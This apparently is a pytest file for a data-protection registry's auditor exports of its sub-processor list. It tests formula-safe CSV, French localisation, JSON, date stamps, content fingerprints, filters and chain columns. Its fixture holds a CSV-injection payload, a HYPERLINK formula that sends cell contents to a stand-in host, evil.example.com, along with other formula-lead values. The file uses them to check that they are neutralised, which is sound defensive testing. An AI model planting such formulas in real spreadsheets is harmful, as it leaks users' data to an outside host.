"""Auditor exports of the sub-processor list: formula-safe CSV, JSON, as-of stamp, fingerprint, filters."""

import csv
import io
import json
from datetime import timedelta

from registry import clock
from registry.models import SubProcessorCreate
from registry.services import changes as svc
from registry.services import subprocessor_exports as exports
from registry.services.csv_files import FORMULA_LEADS, neutralise, write_csv
from registry.services.organisations import get_by_slug

DPO = "dpo@pilotim.example.com"
HOSTILE = {
    "legal_name": '=HYPERLINK("http://evil.example.com/?x="&A1,"Cliquez")',
    "trade_name": "+33 1 23 45 67 89",
    "service": "-2+3",
    "dpa_reference": "@SUM(A1:A9)",
    "certifications": ["\tISO 27001", "\rSOC 2"],
    "country": "FR",
}


def rows(text, lang="en"):
    assert text.startswith("\ufeff"), "a CSV starts with the byte-order mark Excel needs to read UTF-8"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";" if lang == "fr" else ","))


def test_csv_neutralises_formula_cells_and_keeps_their_text(demo):
    session = demo
    org = get_by_slug(session, "pilotim")
    svc.propose_subprocessor(session, org, SubProcessorCreate.model_validate(HOSTILE), DPO)
    session.commit()
    data = exports.export_data(session, org, clock.today(org.timezone), exports.Filters(status="planned"))
    table = rows(exports.to_csv(data, "en"))
    header, row = table[1], table[2]
    cell = dict(zip(header, row, strict=True))
    assert cell["Legal name"] == "'" + HOSTILE["legal_name"]
    assert cell["Trade name"] == "'+33 1 23 45 67 89"
    assert cell["Service"] == "'-2+3"
    assert cell["DPA reference"] == "'@SUM(A1:A9)"
    assert cell["Certifications"].startswith("'\tISO 27001")
    for value in (v for r in table for v in r):
        assert not value.startswith(FORMULA_LEADS), value


def test_csv_is_in_the_interface_language_with_the_codes_beside_the_labels(demo):
    """French spreadsheets: `;`-separated, French headings and labels; the codes stay readable in their own columns."""
    session = demo
    org = get_by_slug(session, "pilotim")
    data = exports.export_data(session, org, clock.today(org.timezone), exports.Filters(location="US"))
    table = rows(exports.to_csv(data, "fr"), "fr")
    by_name = {r[1]: dict(zip(table[1], r, strict=True)) for r in table[2:]}
    openai = by_name["OpenAI, L.L.C."]
    assert openai["Établi en"] == "États-Unis" and openai["Code pays"] == "US"
    assert openai["Statut"] == "en service" and openai["Code statut"] == "active"
    assert "États-Unis (" in openai["Lieux de traitement"] and "US:" in openai["Codes des lieux"]
    assert "no_dpa" in openai["Codes des points"] and "no_dpa" not in openai["Points de conformité"]
    # The US transfer of Google's services is Google Ireland's onward one, recorded on Google LLC (level 2).
    assert "Clauses contractuelles types" in by_name["Google LLC"]["Garanties des transferts"]
    assert "scc" in by_name["Google LLC"]["Codes des garanties"]


def test_a_formula_cell_is_neutralised_whatever_its_lead_and_the_reader_s_separator():
    """Fullwidth leads are read by Excel as formulas too; a `;` inside a cell must not start a new cell."""
    for value in ("＝1+1", "＋1", "－1", "＠SUM(A1)", "=1", "\n=1"):
        assert neutralise(value).startswith("'"), value
    assert neutralise("Société ＝ test") == "Société ＝ test"
    text = write_csv([["a;=1+1", "b,=2"]], "en")
    for delimiter in (",", ";"):
        for cell in next(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter)):
            assert not cell.lstrip('"').startswith(FORMULA_LEADS), (delimiter, cell)


def test_each_export_is_stamped_with_its_date_and_a_fingerprint_of_its_content(demo):
    session = demo
    org = get_by_slug(session, "pilotim")
    today = clock.today(org.timezone)
    data = exports.export_data(session, org, today)
    assert (data["as_of"], data["count"]) == (today.isoformat(), 18)
    assert data["sha256"] == exports.fingerprint(data["subprocessors"]) and len(data["sha256"]) == 64
    assert json.loads(exports.to_json(data)) == data
    assert rows(exports.to_csv(data, "en"))[0] == ["# pilotim", f"as_of {today}", f"sha256 {data['sha256']}"]
    # Same content on a later date: same fingerprint; new content: a new one.
    assert exports.export_data(session, org, today + timedelta(days=3))["sha256"] == data["sha256"]
    svc.propose_subprocessor(session, org, SubProcessorCreate(legal_name="Nouveau Démo (fictif)"), DPO)
    session.commit()
    assert exports.export_data(session, org, today)["sha256"] != data["sha256"]


def names(session, org, **filters):
    data = exports.export_data(session, org, clock.today(org.timezone), exports.Filters(**filters))
    return [e["legal_name"] for e in data["subprocessors"]]


def test_filters_by_country_location_mechanism_status_and_flags(demo):
    session = demo
    org = get_by_slug(session, "pilotim")
    assert names(session, org, country="US") == ["OpenAI, L.L.C.", "Google LLC"]
    assert names(session, org, location="us") == ["OpenAI, L.L.C.", "Google LLC"]
    assert names(session, org, mechanism="scc") == ["OpenAI, L.L.C.", "Google LLC"]
    assert names(session, org, status="retired") == []
    # PILOTIM's contract states no DPA date for any provider: every one is flagged (Art. 28(3)).
    assert len(names(session, org, flagged=True)) == 18 and names(session, org, flagged=False) == []


def test_as_of_list_carries_the_chain_in_json_and_in_columns_appended_to_the_csv(demo):
    """Google LLC is Google Ireland's sub-processor (level 2): the list as of a date says so, in the JSON entries and
    in four CSV columns after the ones a reader of the earlier files knows, which keep their place."""
    session = demo
    org = get_by_slug(session, "pilotim")
    data = exports.export_data(session, org, clock.today(org.timezone))
    by_name = {e["legal_name"]: e for e in data["subprocessors"]}
    top, below = by_name["Google Ireland Limited"], by_name["Google LLC"]
    assert (top["chain_level"], top["engaged_by"]) == (1, None)
    assert (below["chain_level"], below["engaged_by"], below["chain_number"]) == (
        2, "Google Ireland Limited", f"{top['chain_number']}.1")
    assert json.loads(exports.to_json(data))["subprocessors"] == data["subprocessors"]
    table = rows(exports.to_csv(data, "en"))
    header = table[1]
    assert header[:20] == [c[2] for c in exports.CSV_COLUMNS[:20]] and header[19] == "Flag codes"
    assert header[20:] == ["Chain number", "Level", "Engaged by", "No. of the sub-processor above"]
    row = next(dict(zip(header, r, strict=True)) for r in table[2:] if r[1] == "Google LLC")
    assert (row["Level"], row["Engaged by"], row["No. of the sub-processor above"]) == (
        "2", "Google Ireland Limited", str(top["id"]))
    # The printed order follows the chain: each hop right after the one that engages it.
    names = [e["legal_name"] for e in exports.chain_sorted(data["subprocessors"])]
    assert names.index("Google LLC") == names.index("Google Ireland Limited") + 1
